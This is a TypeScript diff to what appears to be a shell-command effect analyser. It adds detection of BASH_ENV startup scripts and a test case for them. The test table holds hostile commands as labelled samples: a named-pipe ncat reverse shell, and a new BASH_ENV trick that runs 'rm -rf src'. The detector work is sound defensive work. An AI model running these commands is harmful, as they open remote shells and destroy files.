@@ -40,6 +40,27 @@ function shell(call: Call): Reading {
   const dialect = call.name === 'zsh' ? 'zsh' : /^(?:bash|rbash)/.test(call.name) ? 'bash' : 'sh';
   const [first, ...rest] = options.operands;
   if (options.has('-n')) return { effects: [] };
+  const before = startUp(call, dialect);
+  if (before.effects.length === 0) return body(call, options, dialect, first, rest);
+  return together([before, body(call, options, dialect, first, rest)]);
+}
+
+/** What bash runs before anything else when it is no terminal's: the file that BASH_ENV names, bash(1) INVOCATION. */
+function startUp(call: Call, dialect: 'bash' | 'sh' | 'zsh'): Reading {
+  const path = dialect === 'bash' ? call.env('BASH_ENV') : undefined;
+  if (typeof path !== 'string' || path === '') return { effects: [] };
+  const target = call.path({ kind: 'literal', value: path, span: call.span });
+  const content = call.made(target) === null ? null : sourceOf(call, target);
+  return content === null ? { effects: [] } : call.script(content, 'BASH_ENV', { dialect });
+}
+
+function body(
+  call: Call,
+  options: ReturnType<Call['options']>,
+  dialect: 'bash' | 'sh' | 'zsh',
+  first: Arg | undefined,
+  rest: readonly Arg[],
+): Reading {
   if (options.has('-c')) {
     if (first === undefined) return { effects: [] };
     return text(call, first, `${call.name} -c`, dialect, rest.slice(1));
@@ -161,6 +182,7 @@ export const programs: readonly Program[] = [
       },
       { command: 'cat /tmp/f | bash -i 2>&1 | ncat -u h 1 > /tmp/f', effects: ['net.reverse-shell'] },
       { command: 'bash -n script.sh', effects: [] },
+      { command: "echo 'rm -rf src' > /tmp/e.sh; BASH_ENV=/tmp/e.sh bash -c true", effects: ['fs.delete'] },
       { command: "zsh -c 'ls'", effects: [] },
     ],
   },
